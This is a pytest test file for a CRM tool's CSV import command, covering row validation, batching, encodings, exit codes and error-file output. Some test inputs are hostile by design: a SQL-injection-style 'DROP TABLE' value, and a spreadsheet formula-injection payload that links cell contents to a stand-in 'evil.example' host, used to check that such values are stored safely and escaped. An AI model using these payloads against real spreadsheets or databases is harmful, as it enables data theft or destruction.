"""``crmsync import``: the CLI over store.csv_import, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
import sqlalchemy as sa
from sqlalchemy import Engine
from typer.testing import CliRunner

from crmsync.cli import app
from crmsync.domain import ObjectSpec
from crmsync.mapping import activate, build, default_objects
from crmsync.mapping.options import with_options
from crmsync.store import capture, migrate
from crmsync.store.choices import save_options
from crmsync.store.csv_import import import_csv
from crmsync.store.db import write_transaction
from crmsync.store.types import utcnow

LEAD = default_objects()["lead"]


@pytest.fixture
def run(db_url, monkeypatch):
    monkeypatch.setenv("CRMSYNC_DATABASE_URL", db_url)
    monkeypatch.delenv("CRMSYNC_CONFIG", raising=False)
    runner = CliRunner()

    def invoke(*args: str):
        return runner.invoke(app, ["import", *args])

    return invoke


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def leads(engine: Engine) -> list[tuple]:
    with engine.connect() as conn:
        return [
            tuple(r)
            for r in conn.execute(
                sa.text("SELECT email, first_name, last_name, company FROM lead ORDER BY id")
            )
        ]


def queued(engine: Engine, obj: str = "lead") -> int:
    capture.fold_pending(engine)
    with engine.connect() as conn:
        return conn.scalar(
            sa.text("SELECT count(*) FROM sync_queue WHERE object = :o AND operation = 'insert'"),
            {"o": obj},
        )


def test_good_and_bad_rows(run, engine, tmp_path):
    path = write(
        tmp_path / "leads.csv",
        "email,first_name,last_name,company\n"
        "a@example.com,Ada,Lovelace,ACME\n"
        f"b@example.com,{'x' * 256},B,\n"
        'c@example.com,Cy,"Multi\nLine",\n'
        "\n"
        "d@example.com,Di\n"
        'e@example.com,Eve,"O\'Brien; DROP TABLE lead;--","Quoted, comma"\n',
    )
    errors = tmp_path / "errors.csv"
    result = run("lead", str(path), "--errors-file", str(errors))
    assert result.exit_code == 1, result.output
    assert "3 of 5 rows imported, 2 rejected" in result.stdout
    assert "line 3: first_name:" in result.stderr
    assert "at most 255" in result.stderr
    assert "line 7:" in result.stderr  # after a two-line record and a blank line
    assert leads(engine) == [
        ("a@example.com", "Ada", "Lovelace", "ACME"),
        ("c@example.com", "Cy", "Multi\nLine", None),
        ("e@example.com", "Eve", "O'Brien; DROP TABLE lead;--", "Quoted, comma"),
    ]
    assert queued(engine) == 3  # captured like any other write
    with errors.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [(r["line"], r["field"]) for r in rows] == [("3", "first_name"), ("7", "")]
    assert rows[0]["email"] == "b@example.com"


def test_all_good_exits_0(run, engine, tmp_path):
    path = write(tmp_path / "l.csv", "email\nx@example.com\ny@example.com\n")
    result = run("lead", str(path))
    assert result.exit_code == 0, result.output
    assert "2 of 2 rows imported, 0 rejected" in result.stdout
    assert len(leads(engine)) == 2


def test_bom_crlf_and_blank_lines(run, engine, tmp_path):
    path = tmp_path / "bom.csv"
    path.write_bytes(
        "\ufeffemail,company\r\n\r\nz@example.com,Z\u00fcrich \U0001f600\r\n\r\n".encode()
    )
    result = run("lead", str(path))
    assert result.exit_code == 0, result.output
    assert leads(engine) == [("z@example.com", None, None, "Z\u00fcrich \U0001f600")]


def test_batches_never_lose_valid_rows(engine, tmp_path):
    lines = ["email,last_name"]
    bad = set()
    for i in range(1, 1201):
        if i % 97 == 0:
            lines.append(f"bad{i}@example.com,{'y' * 300}")
            bad.add(i + 1)  # line number: header is line 1
        else:
            lines.append(f"u{i}@example.com,L{i}")
    path = write(tmp_path / "many.csv", "\n".join(lines) + "\n")
    progress: list[int] = []
    result = import_csv(engine, LEAD, path, batch_size=100, on_progress=progress.append)
    assert result.rows == 1200
    assert result.imported == 1200 - len(bad)
    assert {e.line for e in result.errors} == bad
    assert sum(progress) == 1200
    assert len(leads(engine)) == result.imported
    assert queued(engine) == result.imported


def test_contact_account_ids_checked_per_batch(run, engine, tmp_path):
    with engine.begin() as conn:
        account_id = conn.execute(
            sa.text("INSERT INTO account (name) VALUES ('ACME') RETURNING id")
        ).scalar_one()
    path = write(
        tmp_path / "c.csv",
        "email,account_id\n"
        f"ok@example.com,{account_id}\n"
        f"missing@example.com,{account_id + 1}\n"
        "word@example.com,seven\n"
        "none@example.com,\n",
    )
    result = run("contact", str(path), "--batch-size", "2")
    assert result.exit_code == 1, result.output
    assert f"line 3: account_id: no account with id {account_id + 1}" in result.stderr
    assert "line 4: account_id: must be an integer" in result.stderr
    with engine.connect() as conn:
        got = conn.execute(sa.text("SELECT email, account_id FROM contact ORDER BY id")).all()
    assert [tuple(r) for r in got] == [("ok@example.com", account_id), ("none@example.com", None)]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("", "empty"),
        ("\ufeff", "empty"),
        ("\n\n", "empty"),
        ("emial,first_name\nx,y\n", "valid columns: email, first_name, last_name, company"),
        ("id,email\n1,x\n", "read-only"),
        ("email,email\nx,y\n", "twice"),
        ("email,\nx,\n", "no name"),
    ],
)
def test_usage_errors_exit_2_and_write_nothing(run, engine, tmp_path, content, message):
    path = write(tmp_path / "u.csv", content)
    result = run("lead", str(path))
    assert result.exit_code == 2, result.output
    assert message in result.stderr
    assert leads(engine) == []


def test_not_utf8_exits_2_before_writing(run, engine, tmp_path):
    path = tmp_path / "latin1.csv"
    path.write_bytes(b"email,company\na@example.com,ok\nb@example.com,Z\xfcrich\n")
    result = run("lead", str(path))
    assert result.exit_code == 2
    assert "not UTF-8" in result.stderr
    assert leads(engine) == []


def test_missing_file_and_unknown_object(run, tmp_path):
    result = run("lead", str(tmp_path / "nope.csv"))
    assert result.exit_code == 2 and "no such file" in result.stderr
    path = write(tmp_path / "ok.csv", "email\nx@example.com\n")
    result = run("leads", str(path))
    assert result.exit_code == 2 and "unknown object" in result.stderr
    result = run("lead", str(path), "--batch-size", "0")
    assert result.exit_code == 2


def test_header_only_imports_nothing(run, engine, tmp_path):
    result = run("lead", str(write(tmp_path / "h.csv", "email,company\n")))
    assert result.exit_code == 0
    assert "0 of 0 rows imported" in result.stdout


def test_errors_file_escapes_formula_cells(run, engine, tmp_path):
    path = write(
        tmp_path / "evil.csv",
        "email,first_name,last_name,company\n"
        f'=HYPERLINK("http://evil.example/?x="&A1),{"x" * 256},+SUM(1),@cmd\n'
        "ok@example.com,-2,B,\tTab\n",
    )
    errors = tmp_path / "errors.csv"
    result = run("lead", str(path), "--errors-file", str(errors))
    assert result.exit_code == 1, result.output
    with errors.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 1
    row = rows[0]
    assert row["line"] == "2"
    assert row["email"] == '\'=HYPERLINK("http://evil.example/?x="&A1)'
    assert row["last_name"] == "'+SUM(1)" and row["company"] == "'@cmd"
    assert row["field"] == "email"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_email_columns_take_addresses_only(run, engine, tmp_path):
    path = write(
        tmp_path / "emails.csv",
        "email,first_name\n"
        "not-an-email,A\n"
        "ada@example.com,Ada\n"
        "two@@example.com,B\n"
        "spa ce@example.com,C\n"
        "nodot@localhost,D\n",
    )
    contacts = write(tmp_path / "contacts.csv", "email\nalso-not-one\nbo@example.org\n")
    errors = tmp_path / "errors.csv"
    result = run("lead", str(path), "--errors-file", str(errors))
    assert result.exit_code == 1, result.output
    assert "1 of 5 rows imported, 4 rejected" in result.stdout
    assert "line 2: email: 'not-an-email' is not an email address" in result.stderr
    assert [r[0] for r in leads(engine)] == ["ada@example.com"]
    with errors.open(newline="", encoding="utf-8") as fh:
        assert [(r["line"], r["field"]) for r in csv.DictReader(fh)] == [
            ("2", "email"),
            ("4", "email"),
            ("5", "email"),
            ("6", "email"),
        ]
    result = run("contact", str(contacts))
    assert result.exit_code == 1 and "line 2: email:" in result.stderr


RATING = {"attribute": "leadqualitycode", "type": "choice", "labels": True}


def _labels_store(engine: Engine, stored: bool) -> ObjectSpec:
    """``lead`` with a ``rating`` whose labels Dynamics gives; with ``stored``, the
    options a worker read (1 Hot, 2 Warm, 3 Cold) are in ``sync_choice_option``."""
    specs = build({"lead": {"fields": {"rating": RATING}}})
    migrate.upgrade(engine, specs.values())
    if stored:
        read, _ = with_options(
            specs, {"lead": {"leadqualitycode": ((1, "Hot"), (2, "Warm"), (3, "Cold"))}}
        )
        with write_transaction(engine) as conn:
            save_options(conn, read["lead"], utcnow())
    return specs["lead"]


def _ratings(engine: Engine) -> list[tuple]:
    with engine.connect() as conn:
        return [
            tuple(r) for r in conn.execute(sa.text("SELECT email, rating FROM lead ORDER BY id"))
        ]


def test_a_label_none_of_the_stored_options_has_is_rejected(engine, tmp_path):
    lead = _labels_store(engine, stored=True)
    path = write(
        tmp_path / "l.csv",
        "email,rating\nh@example.com,Hot\nl@example.com,Lukewarm\nn@example.com,\n"
        "c@example.com,cold\n",
    )
    result = import_csv(engine, lead, path)
    assert (result.rows, result.imported) == (4, 2)
    assert [(e.line, e.field) for e in result.errors] == [(3, "rating"), (5, "rating")]
    message = result.errors[0].message
    assert "'Lukewarm' is not one of leadqualitycode's options in Dynamics" in message
    assert "1 'Hot', 2 'Warm', 3 'Cold'" in message
    assert result.errors[0].values == {"email": "l@example.com", "rating": "Lukewarm"}
    assert _ratings(engine) == [("h@example.com", "Hot"), ("n@example.com", None)]


def test_without_stored_options_any_label_is_imported(engine, tmp_path):
    """No worker has stored the options yet: as the records API, any label of 1 to 100
    characters is taken (the worker refuses one that is no option when it sends it)."""
    lead = _labels_store(engine, stored=False)
    path = write(
        tmp_path / "l.csv", f"email,rating\nl@example.com,Lukewarm\nx@example.com,{'x' * 101}\n"
    )
    result = import_csv(engine, lead, path)
    assert result.imported == 1
    assert [(e.line, e.field) for e in result.errors] == [(3, "rating")]
    assert _ratings(engine) == [("l@example.com", "Lukewarm")]


def test_the_cli_reports_a_label_that_is_no_option(run, engine, tmp_path, monkeypatch):
    _labels_store(engine, stored=True)
    config = tmp_path / "crmsync.toml"
    config.write_text(
        "[objects.lead.fields]\n"
        'rating = { attribute = "leadqualitycode", type = "choice", labels = true }\n'
    )
    monkeypatch.setenv("CRMSYNC_CONFIG", str(config))
    path = write(tmp_path / "l.csv", "email,rating\nw@example.com,Warm\nf@example.com,Frozen\n")
    errors = tmp_path / "errors.csv"
    try:
        result = run("lead", str(path), "--errors-file", str(errors))
    finally:
        activate(default_objects())
    assert result.exit_code == 1, result.output
    assert "1 of 2 rows imported, 1 rejected" in result.stdout
    assert "line 3: rating: 'Frozen' is not one of leadqualitycode's options" in result.stderr
    with errors.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [(r["line"], r["field"], r["rating"]) for r in rows] == [("3", "rating", "Frozen")]
    assert _ratings(engine) == [("w@example.com", "Warm")]
